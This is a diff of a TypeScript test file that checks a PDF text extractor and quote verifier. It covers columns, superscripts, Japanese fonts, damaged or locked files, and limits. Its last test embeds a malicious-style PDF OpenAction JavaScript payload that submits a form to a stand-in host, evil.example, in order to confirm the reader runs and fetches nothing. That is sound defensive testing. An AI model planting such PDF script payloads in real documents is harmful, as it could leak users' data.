@@ -1,25 +1,162 @@
-import { expect, test } from 'vitest';
-import { column, makePdf } from '@/tests/fixtures/make-pdf';
-import { openPdf } from '@/utils/page/open-pdf';
+import { describe, expect, test, vi } from 'vitest';
+import { column, LOCKED, type MadePdf, makePdf } from '@/tests/fixtures/make-pdf';
+import { openPdf, PDF_LIMITS } from '@/utils/page/open-pdf';
+import { readPdf } from '@/utils/page/read-pdf';
 import { assemblePdfText } from '@/utils/text/assemble-pdf-text';
+import { clipOf } from '../../unit/verify/quote-fixture';
 
-async function textOf(bytes: Uint8Array<ArrayBuffer>) {
-  const opened = await openPdf(bytes);
+const ADDRESS = 'https://rivers.example/report.pdf';
+const QUOTE = 'The river rose by 61 centimetres overnight';
+const LINES = ['The river rose by 61 centimetres', 'overnight, and fell again.'];
+
+async function textOf(made: MadePdf) {
+  const opened = await openPdf(makePdf(made));
   if (!opened.ok) throw new Error(opened.error);
   return assemblePdfText(opened.value.pages, opened.value.language);
 }
 
-test('reads lines as a paragraph, and pages one after the other', async () => {
-  const pdf = await textOf(
-    makePdf({
-      language: 'en-GB',
-      pages: [
-        column(['The river rose by 61 centimetres', 'overnight, and fell again.']),
-        column(['On the second page it is still raining.']),
+async function judge(bytes: Uint8Array<ArrayBuffer>, quote = QUOTE) {
+  const answer = {
+    requestedUrl: ADDRESS,
+    finalUrl: ADDRESS,
+    status: 200,
+    contentType: 'application/pdf',
+  };
+  const { text, judgements } = await readPdf(bytes, answer, [clipOf(quote)]);
+  const [judged] = judgements;
+  if (judged === undefined) throw new Error('There was one quote.');
+  return { text, ...judged };
+}
+
+describe('the text of a PDF', () => {
+  test('is that of its lines, page by page, in its language', async () => {
+    const pages = [column(LINES), column(['On the second page it still rains.'])];
+    const pdf = await textOf({ language: 'en-GB', pages });
+    expect(pdf.text).toBe(`${LINES.join(' ')}\nOn the second page it still rains.`);
+    expect(pdf.blocks.map(({ language }) => language)).toEqual(['en-GB', 'en-GB']);
+    expect(pdf.pageStarts).toEqual([0, LINES.join(' ').length + 1]);
+  });
+
+  test('keeps typographers’ marks and accents', async () => {
+    const line = 'L’été “dernier” – 12 € à l’écluse…';
+    expect((await textOf({ pages: [column([line])] })).text).toBe(line);
+  });
+
+  test('goes down one column and then the next', async () => {
+    const left = column(['The left column breaks a dic-', 'tionary and goes']);
+    const right = column(['down to its foot.', 'The right one follows.'], { x: 320 });
+    expect((await textOf({ pages: [[...left, ...right]] })).text).toBe(
+      'The left column breaks a dic\u00ADtionary and goes\ndown to its foot. The right one follows.',
+    );
+  });
+
+  test('has the cells of a table apart', async () => {
+    const row = [
+      { text: '12', x: 72, y: 700 },
+      { text: '300', x: 140, y: 700 },
+    ];
+    expect((await textOf({ pages: [row] })).text).toBe('12\n300');
+  });
+
+  test.each([
+    ['set smaller and higher', { size: 7, y: 704, rise: 0 }, 'raised'],
+    ['set with a rise', { size: 11, y: 700, rise: 4 }, 'raised'],
+    ['set smaller and lower', { size: 7, y: 698, rise: 0 }, 'lowered'],
+  ])('marks a figure that is %s', async (_name, figure, kind) => {
+    const pages = [
+      [
+        { text: 'about 10', x: 72, y: 700 },
+        { text: '2', x: 114.5, ...figure },
+        { text: 'cells in it', x: 124, y: 700 },
       ],
-    }),
-  );
-  expect(pdf.text).toBe(
-    'The river rose by 61 centimetres overnight, and fell again.\nOn the second page it is still raining.',
-  );
+    ];
+    const pdf = await textOf({ pages });
+    expect(pdf.text).toBe('about 102 cells in it');
+    expect(pdf.marks).toEqual([{ start: 8, end: 9, kind }]);
+  });
+
+  test('is read on turned pages as well', async () => {
+    const pages = [LINES.map((text, at) => ({ text, x: 100 + at * 14, y: 100, turned: 90 }))];
+    expect((await textOf({ pages })).text).toBe(LINES.join(' '));
+  });
+
+  test('in Japanese is read through a packaged character map', async () => {
+    const font =
+      '<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /90ms-RKSJ-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /Ryumin-Light /Flags 4 /Ascent 800 /Descent -200 /CapHeight 700 /ItalicAngle 0 /StemV 80 /FontBBox [0 -200 1000 900] >> >>] >>';
+    // 山の雪 in Shift_JIS.
+    const drawing = 'BT /F1 11 Tf 72 700 Td <8E5282CC90E1> Tj ET';
+    expect((await textOf({ pages: [[]], font, drawing })).text).toBe('山の雪');
+  });
+});
+
+describe('a PDF that cannot be read', () => {
+  test.each([
+    ['with a password', makePdf({ pages: [column(LINES)], trailer: LOCKED }), 'pdf-locked'],
+    ['that is none', new TextEncoder().encode('<!doctype html><p>Log in'), 'pdf-broken'],
+    ['cut off at its head', makePdf({ pages: [column(LINES)] }).slice(0, 20), 'pdf-broken'],
+    ['without a byte', new Uint8Array(), 'pdf-broken'],
+    ['of pictures only', makePdf({ pages: [[], []], drawing: '0 0 99 99 re f' }), 'pdf-no-text'],
+  ])('%s leaves its quotes unchecked', async (_name, bytes, reason) => {
+    const { text, verdict, evidence } = await judge(bytes as Uint8Array<ArrayBuffer>);
+    expect({ text, verdict, reason: evidence.reason, status: evidence.httpStatus }).toEqual({
+      text: '',
+      verdict: 'unchecked',
+      reason,
+      status: 200,
+    });
+  });
+
+  test('is mended where its table of contents is damaged', async () => {
+    const bytes = makePdf({ pages: [column(LINES)] });
+    const table = new TextDecoder('latin1').decode(bytes).lastIndexOf('xref\n0');
+    bytes.fill(0x20, table, table + 60);
+    expect((await judge(bytes)).verdict).toBe('verbatim');
+  });
+
+  test('on some of its pages says nothing is missing', async () => {
+    const bytes = makePdf({ pages: [column(LINES), [], column(['The end.'])] });
+    expect(await judge(bytes)).toMatchObject({ verdict: 'verbatim', evidence: { detail: 'p. 1' } });
+    const again = makePdf({ pages: [column(LINES), [], column(['The end.'])] });
+    expect(await judge(again, 'Snow fell on the far side of the hills')).toMatchObject({
+      verdict: 'unchecked',
+      evidence: { reason: 'pdf-pages-unread', detail: 'p. 2' },
+    });
+  });
+});
+
+describe('limits', () => {
+  const pages = Array.from({ length: 6 }, (_, at) => column([`This is page ${at.toString()}.`]));
+
+  test('give what was read of the pages until then', async () => {
+    for (const limits of [{ pages: 2 }, { text: 40 }]) {
+      const opened = await openPdf(makePdf({ pages }), { ...PDF_LIMITS, ...limits });
+      expect(opened.ok && [opened.value.pages.length, opened.value.pageCount]).toEqual([2, 6]);
+    }
+  });
+
+  test('of time fail where not even a page was read', async () => {
+    const opened = await openPdf(makePdf({ pages }), { ...PDF_LIMITS, timeout: 1 });
+    expect(opened).toEqual({ ok: false, error: 'timed-out' });
+  });
+});
+
+test('neither runs what a PDF holds nor fetches what it names, and ends its worker', async () => {
+  const fetched = vi.spyOn(globalThis, 'fetch');
+  const ended = vi.spyOn(Worker.prototype, 'terminate');
+  const alerted = vi.spyOn(globalThis, 'alert').mockImplementation(() => undefined);
+  try {
+    const { verdict } = await judge(
+      makePdf({
+        pages: [column(LINES)],
+        catalogue:
+          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example/"\\)) >> /AA << /WC << /S /URI /URI (http://evil.example/) >> >>',
+      }),
+    );
+    expect(verdict).toBe('verbatim');
+    expect(fetched).not.toHaveBeenCalled();
+    expect(alerted).not.toHaveBeenCalled();
+    expect(ended).toHaveBeenCalledTimes(1);
+  } finally {
+    vi.restoreAllMocks();
+  }
 });
